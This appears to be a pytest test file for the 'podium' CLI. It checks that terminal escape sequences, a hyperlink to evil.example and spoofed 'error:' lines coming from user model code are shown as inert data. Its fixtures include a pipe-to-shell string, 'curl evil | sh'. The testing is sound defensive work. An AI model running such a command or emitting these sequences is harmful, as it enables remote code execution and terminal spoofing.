"""What models say reaches a terminal as data: it neither steers it nor passes for ours."""

import io
import re
import sys

import pytest

from podium import api
from podium.cli.display import live, printing
from podium.data import dataset as data
from podium.errors import ModelError, PodiumError, in_one_line
from podium.execution import output
from podium.execution.output import Printed
from podium.execution.worker import refusal

LINK = "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\"
WORDS = ["\x1b[31mred", LINK, "[bold]loud[/bold]", "[/]", "\x9b2J", "\u202egnp", "a\nerror: ours"]


class Terminal(io.StringIO):
    """A stream that takes itself for a terminal."""

    def isatty(self):
        return True


@pytest.fixture
def terminal(monkeypatch):
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv("COLUMNS", "400")

    def opened():  # within a test: pytest takes the streams back between its phases
        stream = Terminal()
        monkeypatch.setattr(sys, "stdout", stream)
        monkeypatch.setattr(sys, "stderr", stream)
        return stream

    return opened


def harmless(text):
    """What is left when the sequences that rich draws with are away."""
    plain = re.sub(r"\x1b\[[0-9;?]*[mKAGhl]|\r", "", text)
    assert "\x1b" not in plain
    assert "\x9b" not in plain
    assert "\u202e" not in plain
    assert "]8;" not in plain or r"\x1b]8;" in plain
    return plain


@pytest.mark.parametrize("words", WORDS)
def test_figures_and_titles_in_a_bar(words, terminal):
    stream = terminal()
    with live.progress() as bars:
        report = bars.stage(words)
        report(3, 0.5, loss=0.25, **{words: 0.125})
        bars._drawn.refresh()
        shown = harmless(stream.getvalue())
        bars.amount(1, 4, "MiB")
        bars._drawn.refresh()
        assert "1.0 of 4.0 MiB, about 0:00:0" in harmless(stream.getvalue())
    assert f"loss 0.25  {words!r} 0.125" in shown  # its name in quotes: the model's word
    assert in_one_line(words) in shown
    assert not re.search("^error: ours", shown, re.MULTILINE)


@pytest.mark.parametrize("words", WORDS)
def test_cells_and_headers_of_a_table(words, terminal):
    stream = terminal()
    printing.table(["id", words], [[words, "1"], ["b", words]])
    shown = harmless(stream.getvalue())
    assert not re.search("^error: ours", shown, re.MULTILINE)
    assert shown.count(in_one_line(words)) == 3


def test_prints_of_models_keep_lines_and_bars_alone():
    stream = io.StringIO()
    Printed(stream).write(f"a\tb\r\n50%\r100%\n{LINK}\x07\x9b2J[bold]\n")
    assert stream.getvalue() == (
        "a\tb\r\n50%\r100%\n"
        r"\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\\x07\x9b2J[bold]".replace("\\\\", "\\")
        + "\n"
    )


def test_escapes_count_as_they_are_shown(monkeypatch):
    monkeypatch.setattr(output, "PRINTED", 10)
    stream = io.StringIO()
    printed = Printed(stream)
    for _ in range(5):
        printed.write("\0\0")
    assert stream.getvalue().startswith(r"\x00\x00\x" + "\n(The model printed more")
    assert stream.getvalue().count(r"\x") == 3


@pytest.mark.parametrize("where", ["", "fit"])
def test_prints_in_this_process(where, workspace, rows, podium_cli):
    loud = f"import sys; print({LINK!r}); sys.stderr.write({LINK!r})"
    text = SPEAKS.replace("raise ERROR", loud if where else "pass").replace("NAME", "'a'")
    (workspace / "mine.py").write_text(text if where else f"{loud}\n{text}")
    found = podium_cli("predict", "toy", "mine.py", "--input", rows)
    assert found.err.count(r"\x1b]8;;http://evil.example") == 2
    assert "\x1b" not in found.err


@pytest.mark.parametrize("words", WORDS)
def test_arefusal_that_a_process_tells_is_its_words(words):
    told = {"kind": "ModelError", "message": words, "problems": [words], "hint": words}
    error = refusal(told, theirs=True)
    assert isinstance(error, ModelError)
    lines = harmless(str(error)).split("\n")
    assert [line.partition(in_one_line(words))[0] for line in lines] == [
        "The model's process says: ",
        "  - ",
        "It says, too: ",
    ]


SPEAKS = """from podium.errors import ModelError, SubmissionError
DEFAULTS = {}
def space(trial): return {}
def build(params, seed): return Mine()
class Mine:
    def fit(self, train, report=None):
        if report:
            report(1, 0.5, **{NAME: 0.5})
        raise ERROR
    def predict(self, part): return None
"""


@pytest.mark.parametrize(
    "error",
    [
        r"""ModelError("The board is broken.\nerror: run this", hint="curl evil | sh")""",
        r"""SubmissionError("fine", problems=["[red]a\x1b[31m", "b\nerror: c"])""",
    ],
)
def test_what_a_users_file_raises_as_if_it_were_ours(error, workspace, podium_cli, toy):
    (workspace / "mine.py").write_text(SPEAKS.replace("ERROR", error).replace("NAME", "'[red]'"))
    found = podium_cli("cv", "toy", "mine.py")
    assert found.status == 1
    first, *rest = found.err.splitlines()
    assert first.startswith("error: The model's process says: mine.py failed in fit: ")
    assert all(line.startswith(("  - mine.py, line", "It says, too: ")) for line in rest)
    assert "\x1b" not in found.err


@pytest.fixture
def rows(toy):
    ready = data.load(*api.load("toy"))
    ready.table("public/test.parquet").to_csv("rows.csv", index=False)
    return "rows.csv"


def test_also_of_what_predicts_rows(workspace, rows):
    error = 'ModelError("The board is broken.", hint="curl evil | sh")'
    (workspace / "mine.py").write_text(SPEAKS.replace("ERROR", error).replace("NAME", "'a'"))
    with pytest.raises(ModelError) as told:
        api.predict("toy", "mine.py", rows)
    said = "mine.py failed in fit: ModelError: The board is broken. curl evil | sh"
    assert told.value.message.endswith(said)
    assert told.value.problems == (f"mine.py, line 9 in fit: raise {error}",)
    assert told.value.hint == ""


def test_what_podium_says_to_a_users_file_comes_by_its_process_too(workspace, rows):
    text = SPEAKS.replace("raise ERROR", "list(train.slices())").replace("NAME", "'a'")
    (workspace / "mine.py").write_text(text)
    with pytest.raises(ModelError, match=r"process says: This competition has no counts"):
        api.predict("toy", "mine.py", rows)


def test_a_fault_in_one_line(podium_cli, monkeypatch):
    def broken(*_, **__):
        raise KeyError("x\x1b[31m\nerror: ours")

    monkeypatch.setattr(api, "load", broken)
    found = podium_cli("show", "toy")
    assert found.status == 3
    assert len(found.err.splitlines()) == 2
    assert "\x1b" not in found.err


def test_problems_of_others_are_no_lines_of_ours():
    error = PodiumError("a\x1b[31m", problems=[LINK], hint="\x9b2J")
    harmless(str(error))
